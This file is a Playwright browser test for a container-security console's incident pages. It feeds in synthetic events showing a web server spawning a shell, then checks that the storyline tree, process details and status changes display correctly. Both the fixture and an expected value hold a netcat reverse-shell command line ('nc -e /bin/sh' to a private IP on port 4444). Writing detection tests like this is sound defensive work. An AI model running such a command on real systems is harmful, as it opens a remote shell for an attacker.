"""The incidents pages in a real Chromium: the list, one incident's storyline drawn as an SVG
tree from ingested events, a click on a process showing its events, a status change."""

from __future__ import annotations

import contextlib
import time
from pathlib import Path

import pytest

from stockade.model.entities import Container
from stockade.model.events import Ancestor, Event, FdInfo
from tests.support.agent_client import make_alert, make_event
from tests.support.browser import logged_in_console
from tests.support.platform_runner import PlatformRunner

MIN = 60 * 1_000_000_000
WEB = Container(id="7c" * 32, name="storefront", image="localhost/store:2", runtime="podman")
CONMON = Ancestor(pid=8000, vpid=8000, start_ns=8000, name="conmon", argv=("conmon",))
ENTRY = Ancestor(pid=8001, vpid=1, start_ns=8001, name="httpd", argv=("httpd", "-f"))
SHELL = Ancestor(pid=8002, vpid=2, start_ns=8002, name="sh", argv=("sh", "-c", "x"))


def step(seq: int, ts: int, name: str, pid: int, ancestors: tuple[Ancestor, ...]) -> Event:
    """An exec in the storefront container by `name`, under `ancestors` (parent first)."""
    event = make_event(seq, ts, container=WEB, proc_name=name, pid=pid, host_id="ui-inc")
    event.proc.start_ns, event.proc.vpid = pid, pid - 8000  # start times stand in as pids
    event.proc.argv = (name, "-e", "/bin/sh", "10.88.0.44", "4444") if name == "nc" else (name,)
    event.ancestors = ancestors
    return event


@pytest.mark.server
@pytest.mark.browser
def test_incident_page_draws_the_storyline_and_shows_a_process(
    running: PlatformRunner, tmp_path: Path, artifacts_dir: Path
) -> None:
    from playwright.sync_api import expect

    agent = running.enroll(tmp_path, hostname="ui-inc-node", host_id="ui-inc")
    t0 = time.time_ns() - 5 * MIN
    shell = step(1, t0, "sh", 8002, (ENTRY, CONMON))  # the web server spawned a shell
    nc = step(2, t0 + 1000, "nc", 8003, (SHELL, ENTRY, CONMON))
    connect = step(3, t0 + 2000, "nc", 8003, (SHELL, ENTRY, CONMON))
    connect.type, connect.fd = "connect", FdInfo(name="10.88.0.9:41000->10.88.0.44:4444")
    benign = step(4, t0 + 3000, "ls", 8004, (ENTRY, CONMON))
    alerts = [
        make_alert(5, shell, rule="Shell spawned by a web server", priority="Warning"),
        make_alert(6, nc, rule="Netcat remote code execution", priority="Critical"),
    ]
    assert agent.send(agent.batch([shell, nc, connect, benign], alerts)).status_code == 200
    with contextlib.closing(running.login()) as admin:
        [incident] = admin.get("/api/v1/incidents", params={"host": "ui-inc"}).json()["items"]
    base = running.platform.console_url
    with logged_in_console(base, running.admin_password, width=1500) as session:
        page = session.page
        page.click("#nav-incidents")
        row = page.locator(f'[data-testid=incident-row][data-incident-id="{incident["id"]}"]')
        expect(row.get_by_test_id("incident-title")).to_have_text("Shell spawned by a web server")
        expect(row.get_by_test_id("incident-severity")).to_have_text("Critical")
        expect(row.get_by_test_id("incident-status")).to_have_text("new")
        expect(row.get_by_test_id("incident-where")).to_have_text("storefront on ui-inc-node")
        expect(row.get_by_test_id("incident-alerts")).to_have_text("2")
        page.screenshot(path=str(artifacts_dir / "platform-incidents.png"), full_page=True)

        row.get_by_test_id("incident-title").click()
        page.wait_for_url(f"{base}/incident.html?id={incident['id']}")
        nodes = page.locator("[data-testid=storyline] [data-testid=story-node]")
        expect(nodes).to_have_count(4)  # the container, httpd, sh, nc; not ls
        names = [nodes.nth(i).get_attribute("data-name") for i in range(4)]
        assert names == ["container storefront", "httpd", "sh", "nc"]
        offending = page.locator("[data-testid=story-node].offending")
        expect(offending).to_have_count(2)
        nc_node = page.locator('[data-testid=story-node][data-name="nc"]')
        nc_node.click()
        details = page.get_by_test_id("story-details")
        expect(details.get_by_test_id("story-process-name")).to_have_text("nc")
        expect(details.get_by_test_id("story-process-cmdline")).to_have_text(
            "nc -e /bin/sh 10.88.0.44 4444"
        )
        expect(details.get_by_test_id("story-process-rules")).to_contain_text(
            "Netcat remote code execution"
        )
        kinds = details.get_by_test_id("story-step")
        expect(kinds).to_have_count(3)
        assert [kinds.nth(i).get_attribute("data-kind") for i in range(3)] == [
            "exec",
            "alert",
            "connect",
        ]
        details.locator("summary").first.click()
        expect(details.get_by_test_id("story-event").first).to_contain_text('"pid": 8003')
        page.screenshot(path=str(artifacts_dir / "platform-incident.png"), full_page=True)

        page.select_option("#change-status", "investigating")
        page.fill("#change-note", "the storefront shell came from httpd")
        page.click("#change-save")
        expect(page.get_by_test_id("incident-status")).to_have_text("investigating")
        notes = page.locator('[data-testid=timeline-row][data-kind="note"]')
        expect(notes).to_contain_text("the storefront shell came from httpd")
    assert session.problems == []
    with contextlib.closing(running.login()) as admin:
        stored = admin.get(f"/api/v1/incidents/{incident['id']}").json()
    assert (stored["status"], stored["timeline"][-1]["username"]) == ("investigating", "admin")
